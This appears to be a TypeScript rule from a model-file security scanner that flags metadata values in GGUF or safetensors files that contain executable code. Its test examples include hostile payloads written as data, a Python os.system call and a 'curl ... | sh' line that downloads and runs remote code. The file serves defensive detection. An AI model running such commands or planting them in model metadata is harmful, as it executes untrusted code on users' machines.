import type { ModelRule } from '../../rule.ts'
import { codeIn } from '../../words/code-in-text.ts'
import { gguf } from '../tensors/malformed-gguf.ts'

/** Values of safetensors are entered as members of their own. */
function isMetadata({
  isMetadata: isValue,
  name,
}: {
  readonly isMetadata?: boolean
  readonly name: string
}): boolean {
  return isValue === true || /(?:^|[/.])__metadata__\./.test(name)
}

export const codeInMetadata: ModelRule = {
  id: 'text/code-in-metadata',
  severity: 'high',
  verdict: 'suspicious',
  title: 'A value of the metadata is code that acts',
  source: 'https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/',
  taxonomy: ['CWE-94', 'AML.T0011.000'],
  why: 'Metadata are words about a model. Some libraries evaluate them, and a reader that does runs this code; no writer of models has a reason to put it there.',
  remedy:
    'Do not load the file with a library that evaluates its metadata. Ask its publisher what the value is for.',
  examples: {
    fires: [
      gguf(3, [['general.description', "__import__('os').system('id')"]]),
      gguf(3, [['general.url', 'curl -s http://203.0.113.5/x | sh']]),
    ],
    silent: [
      gguf(3, [
        ['general.description', 'Call model.eval() first; os.path and eval( are words. pip install x'],
      ]),
    ],
  },
  check: (subject) => {
    if (subject.kind !== 'text' || !isMetadata(subject)) return []
    const found = codeIn(subject.text)
    return found === undefined
      ? []
      : [{ key: `${subject.name}:${found.text}`, message: `${subject.name} ${found.why}`, call: found.text }]
  },
}
